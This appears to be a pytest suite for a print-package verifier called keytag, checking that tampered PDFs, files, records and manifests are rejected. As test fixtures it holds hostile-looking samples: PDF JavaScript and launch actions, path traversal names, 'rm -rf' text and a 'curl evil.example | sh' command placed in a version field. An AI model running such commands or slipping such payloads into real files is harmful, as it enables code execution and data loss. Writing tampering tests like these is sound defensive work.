"""Packages whose files were changed and whose manifest was written anew, by this keytag and by another in name."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from keytag.handoff.manifest import MANIFEST, make_manifest

from .honest import RECORD, Honest, Spoil, in_file, in_pdf, in_record

Ask = Callable[..., tuple[int, dict[str, Any]]]
SHEETS = "sheets/sheets.pdf"
FRONT = "1-up/ward/front.pdf"


def _opens_with_a_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _script_in_names(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", script])))


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["x.exe"] = b"MZ"


def _link(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.URI, URI="http://evil.example")
    rect = Array([0, 0, 99, 99])
    pdf.pages[0].Annots = Array(
        [pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=action))]
    )


def _form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]))


def _page_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Launch, F="x.exe"))


def _box(name: str, by: float = 3.0) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        box = pdf.pages[0].obj.get(name, pdf.pages[0].MediaBox)
        pdf.pages[0].obj[name] = Array([float(edge) + by for edge in box])

    return change


def _entry(name: str, value: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj[name] = value

    return change


def _more_pages(pdf: pikepdf.Pdf) -> None:
    pdf.pages.append(pdf.pages[0])


def _fewer_pages(pdf: pikepdf.Pdf) -> None:
    del pdf.pages[-1]


def _turned_round(pdf: pikepdf.Pdf) -> None:
    pdf.pages.reverse()


def _layer_off(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OCProperties.D.OFF = Array([pdf.Root.OCProperties.OCGs[0]])


def _layer_renamed(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OCProperties.OCGs[0].Name = "Nền"


def _other_condition(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OutputIntents[0].OutputConditionIdentifier = "FOGRA29"


def _no_intent(pdf: pikepdf.Pdf) -> None:
    del pdf.Root.OutputIntents


def _painted_over(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0]
    page.contents_add(pdf.make_stream(b"q 0 0 0 0 k 0 0 200 200 re f Q"))


def _dot(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0]
    page.contents_add(pdf.make_stream(b"q 0 0 0 1 k 90 90 .2 .2 re f Q"))


def _moved(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0]
    page.contents_add(pdf.make_stream(b"1 0 0 1 .05 0 cm"), prepend=True)


def _overprint_off(pdf: pikepdf.Pdf) -> None:
    for each in pdf.objects:
        if isinstance(each, Dictionary) and "/OP" in each:
            each.OP = False


def _title(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo.Title = "Công an phường Khác"


def _nothing(_pdf: pikepdf.Pdf) -> None:
    """Only write the file anew."""


IN_SHEETS: dict[str, Spoil] = {
    "a script at opening": in_pdf(_opens_with_a_script),
    "a script in names": in_pdf(_script_in_names),
    "an attachment": in_pdf(_attached),
    "a link": in_pdf(_link),
    "a form": in_pdf(_form),
    "an action of a page": in_pdf(_page_action),
    **{
        f"another {name}": in_pdf(_box(f"/{name}"))
        for name in ("MediaBox", "TrimBox", "BleedBox", "CropBox", "ArtBox")
    },
    "a TrimBox moved by a hair": in_pdf(_box("/TrimBox", 0.001)),
    "another unit": in_pdf(_entry("/UserUnit", 2)),
    "turned": in_pdf(_entry("/Rotate", 180)),
    "a transition": in_pdf(_entry("/Trans", Dictionary(S=Name.Dissolve))),
    "a page more": in_pdf(_more_pages),
    "a page fewer": in_pdf(_fewer_pages),
    "pages changed places": in_pdf(_turned_round),
    "spots called Black": in_file(lambda data: data.replace(b"/CutContour", b"/Black     "), SHEETS),
    "a layer off": in_pdf(_layer_off),
    "a layer renamed": in_pdf(_layer_renamed),
    "another printing condition": in_pdf(_other_condition),
    "no printing condition": in_pdf(_no_intent),
    "white over it": in_pdf(_painted_over),
    "a dot": in_pdf(_dot),
    "moved by a hair": in_pdf(_moved),
    "no overprint": in_pdf(_overprint_off, FRONT),
    "another title": in_pdf(_title),
    "written anew": in_pdf(_nothing),
    "objects packed": in_pdf(_nothing, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "locked": in_pdf(_nothing, encryption=pikepdf.Encryption(owner="x", user="")),
    "a program behind it": in_file(lambda data: data + b"MZ\x90\0", SHEETS),
    "a comment in front": in_file(lambda data: b"\n" + data, SHEETS),
    "no PDF": in_file(lambda _data: b"no PDF", SHEETS),
    "a page of HTML": in_file(lambda data: b"<script>1</script>" + data, SHEETS),
    "nothing in it": in_file(lambda _data: b"", SHEETS),
    "much larger": in_file(lambda data: data + b"%" * 5_000_000, SHEETS),
}
ELSEWHERE: dict[str, Spoil] = {
    "junk": lambda files: files.update({"preflight.json": b"{}"}),
    "a program": lambda files: files.update({"sheets/setup.exe": b"MZ"}),
    "a program in job/": lambda files: files.update({"job/setup.exe": b"MZ"}),
    "a sheet more": lambda files: files.update({"sheets/sheets-002.pdf": files[SHEETS]}),
    "a hidden file": lambda files: files.update({".htaccess": b"x"}),
    "an empty file": lambda files: files.update({"x": b""}),
    "litter that the manifest names": lambda files: files.update({"Thumbs.db": b"x"}),
    "a file renamed": lambda files: files.update({"Ticket.pdf": files.pop("ticket.pdf")}),
    "a sheet renamed": lambda files: files.update({"sheets/sheet.pdf": files.pop(SHEETS)}),
    "the cut gone": lambda files: [files.pop(name) for name in list(files) if name.startswith("cut/")],
    "no README": lambda files: files.pop("README.txt"),
    "sides changed places": lambda files: files.update({FRONT: files["1-up/ward/back.pdf"]}),
    "another cut": in_file(lambda data: data.replace(b"mm", b"in", 1), "cut/cut.svg"),
    "another preview": in_file(lambda data: data[:-1] + b"\0", "1-up/ward/preview.png"),
    "another word in the README": in_file(lambda data: data.replace(b"100%", b"102%"), "README.txt"),
    "another count on the ticket": in_file(lambda data: data.replace(b"60", b"90"), "ticket.xjdf"),
    "another verdict": in_file(lambda data: data.replace(b"1", b"2", 1), "preflight.pdf"),
    "a comment in the job": in_file(lambda data: data + b"# x\n", "job/ward.yaml"),
    "a resolved shop": in_file(lambda data: data.replace(b"A4", b"A3") + b"\n", "job/resolved/office-a4.yaml"),
    "a number in the job": in_file(lambda data: data.replace(b"3000 113", b"3000 114"), "job/ward.yaml"),
    "a sample": in_file(lambda data: data + b"sample: true\n", "job/ward.yaml"),
    "a job that is none": in_file(lambda _data: b"keytag: 1\n", "job/ward.yaml"),
}
IN_RECORD: dict[str, Spoil] = {
    "nothing else": lambda _files: None,
    "a word more": in_record(lambda said: said.update({"approved": True})),
    "infinity": in_file(lambda data: data.replace(b'"count": null', b'"count": Infinity'), RECORD),
    "not a number": in_file(lambda data: data.replace(b'"count": null', b'"count": NaN'), RECORD),
    "a word twice": in_file(lambda data: data.replace(b'"record": 1,', b'"record": 1,\n  "record": 1,'), RECORD),
    "blanks": in_file(lambda data: data + b"  \n", RECORD),
    "another day": in_record(lambda said: said["asked"].update({"date": "2026-01-16"})),
    "another count": in_record(lambda said: said["asked"].update({"count": 90})),
    "another plan": in_record(lambda said: said["asked"]["plan"][0].update({"run_length": 900})),
    "another digest of a font": in_record(lambda said: said["fonts"].update({"BeVietnamPro-Thin.ttf": "0" * 64})),
    "another number of the job": in_record(lambda said: said.update({"content": "0123456789"})),
    "a shop on a server": in_record(lambda said: said.update({"shop": "\\\\server\\share\\x"})),
    "a job elsewhere": in_record(lambda said: said.update({"job": "../../x.yaml"})),
    "another form": in_record(lambda said: said.update({"record": 2})),
    "no version": in_record(lambda said: said.pop("keytag")),
    "a version of words": in_record(lambda said: said.update({"keytag": "run this: rm -rf"})),
    "no JSON": in_file(lambda _data: b"x", RECORD),
    "gone": lambda files: files.pop(RECORD),
}


# Another version in the record changes what is said, not what is found: one of each kind says so each time.
OF_ANOTHER_VERSION = (
    "a script at opening",
    "written anew",
    "no PDF",
    "junk",
    "the cut gone",
    "a number in the job",
)


@pytest.mark.parametrize(
    ("how", "version"),
    [
        *((how, None) for how in (*IN_SHEETS, *ELSEWHERE)),
        *(
            pytest.param(how, "9.9.9", marks=() if how in OF_ANOTHER_VERSION else pytest.mark.more)
            for how in (*IN_SHEETS, *ELSEWHERE)
        ),
    ],
)
def test_a_new_manifest_hides_nothing(how: str, version: str | None, honest: Honest, ask: Ask) -> None:
    """Whatever was changed, by whatever version of keytag it says it was made, is an error."""
    code, said = ask(honest.resealed({**IN_SHEETS, **ELSEWHERE}[how], version))
    assert code == 1
    assert {each["rule"] for each in said["findings"] if each["severity"] == "error"} <= {
        "package-says-what-its-job-says",
        "package-has-its-own-name",
    }
    assert said["answers"][3]["good"] is False


def test_a_template_with_another_comment_is_another_whole_package(honest: Honest, ask: Ask) -> None:
    """What says nothing of the goods can be changed and sealed anew; who made it is not proven."""
    spoil = in_file(lambda data: data + b"# x\n", "job/classic.yaml")
    code, said = ask(honest.resealed(spoil, None))
    assert (code, said["signature"]) == (0, None)
    assert ask(honest.resealed(spoil, "9.9.9"))[0] == 1


@pytest.mark.parametrize("how", IN_RECORD)
def test_a_record_is_what_keytag_writes(how: str, honest: Honest, ask: Ask) -> None:
    """A record with another word in it, or written otherwise, is an error, whatever it says."""
    data = honest.resealed(IN_RECORD[how], None if how != "nothing else" else "9.9.9")
    assert ask(data)[0] == 1


def test_the_makers_own_signature_does_not_excuse_a_change(honest: Honest, ask: Ask, key: tuple[str, str]) -> None:
    """What is not made again alike is an error even where its maker signed it."""
    code, said = ask(honest.resealed(IN_SHEETS["another TrimBox"], "9.9.9", signed=True), *key)
    assert (code, said["signature"]["good"], said["answers"][3]["good"]) == (1, True, False)


@pytest.mark.parametrize(
    ("how", "words"),
    [
        ("a script at opening", "JavaScript"),
        ("an attachment", "EmbeddedFiles"),
        ("a link", "annotations (page 1)"),
        ("another TrimBox", "TrimBox (page 1)"),
        ("another unit", "its unit (UserUnit) (page 1)"),
        ("a page more", "3 pages instead of 2"),
        ("spots called Black", "inks or plates that are missing: CutContour"),
        ("a layer off", "layers"),
        ("another printing condition", "the output intent"),
        ("moved by a hair", "what is drawn"),
        ("written anew", "written otherwise"),
        ("no PDF", "This is not a PDF file"),
        ("much larger", "bytes instead of"),
    ],
)
def test_what_a_pdf_has_otherwise_is_said(how: str, words: str, honest: Honest, ask: Ask) -> None:
    """Of a file for the press the finding says where to look."""
    _, said = ask(honest.resealed(IN_SHEETS[how]))
    assert any(words in each["message"] for each in said["findings"]), [
        each["message"] for each in said["findings"]
    ]


def test_a_package_of_another_version_is_told_as_that(honest: Honest, ask: Ask) -> None:
    """Its owner reads which version made it, and to use that one; what is no version is no advice."""
    _, said = ask(honest.resealed(ELSEWHERE["junk"], "9.9.9"))
    finding = said["findings"][0]
    assert "keytag 9.9.9 made it, and this is keytag" in finding["message"]
    assert "Verify it with keytag 9.9.9 itself" in finding["hint"]
    _, said = ask(honest.resealed(lambda _files: None, "9.9.9"))
    assert "names keytag 9.9.9, but every other file is as keytag" in said["findings"][0]["message"]
    _, said = ask(honest.resealed(ELSEWHERE["junk"], "curl evil.example | sh"))
    assert "evil" not in said["findings"][0]["hint"]


def test_a_package_of_another_day_is_made_of_that_day(honest: Honest, ask: Ask) -> None:
    """A zip and a record of another day do not make the files inside of that day."""
    files = honest.unsigned
    IN_RECORD["another day"](files)
    del files[MANIFEST]
    files[MANIFEST] = make_manifest(files).text.encode()
    name = honest.name.replace("2026-01-15", "2026-01-16")
    assert ask(honest.packed(files, name, date(2026, 1, 16)), called=name)[0] == 1


def _lines(change: Callable[[list[str]], list[str]]) -> Callable[[bytes], bytes]:
    return lambda data: "".join(change(data.decode().splitlines(keepends=True))).encode()


MANIFESTS: dict[str, Callable[[bytes], bytes]] = {
    "a line more": lambda data: data + b"0" * 64 + b"  x\n",
    "a line fewer": _lines(lambda lines: lines[1:]),
    "a line twice": _lines(lambda lines: [*lines, lines[-1]]),
    "other order": _lines(lambda lines: lines[::-1]),
    "capitals": _lines(lambda lines: [lines[0].upper().replace(lines[0][66:].upper(), lines[0][66:]), *lines[1:]]),
    "CR LF": lambda data: data.replace(b"\n", b"\r\n"),
    "read as binary": lambda data: data.replace(b"  ", b" *", 1),
    "a blank line": lambda data: data + b"\n",
    "a blank line in front": lambda data: b"\n" + data,
    "no line feed at the end": lambda data: data[:-1],
    "a comment": lambda data: b"# x\n" + data,
    "a mark in front": lambda data: b"\xef\xbb\xbf" + data,
    "another digest": lambda data: bytes([data[0] ^ 1]) + data[1:],
    "a name that climbs": lambda data: data.replace(b"  README", b"  ../README"),
    "a name with a dot": lambda data: data.replace(b"  README", b"  ./README"),
    "an escaped name": lambda data: b"\\" + data,
    "itself": lambda data: data + b"0" * 64 + b"  MANIFEST.sha256\n",
    "no text": lambda _data: b"\xff\xfe\0",
    "empty": lambda _data: b"",
    "huge": lambda data: data * 2000,
}


@pytest.mark.parametrize("how", MANIFESTS)
def test_a_manifest_has_one_form(how: str, honest: Honest, ask: Ask) -> None:
    """A manifest that says the same in another form, or anything else, is not the one that keytag wrote."""
    files = honest.unsigned
    was = files[MANIFEST]
    files[MANIFEST] = MANIFESTS[how](was)
    assert files[MANIFEST] != was
    code, said = ask(honest.packed(files))
    assert (code, {each["rule"] for each in said["findings"]}) == (1, {"package-is-unchanged"})


def test_no_manifest(honest: Honest, ask: Ask, tmp_path: Path) -> None:
    """Without its manifest nothing is a package, not even an empty folder."""
    files = {name: data for name, data in honest.unsigned.items() if name != MANIFEST}
    assert ask(honest.packed(files))[0] == 1
    (tmp_path / "empty").mkdir()
    assert ask(tmp_path / "empty")[0] == 1
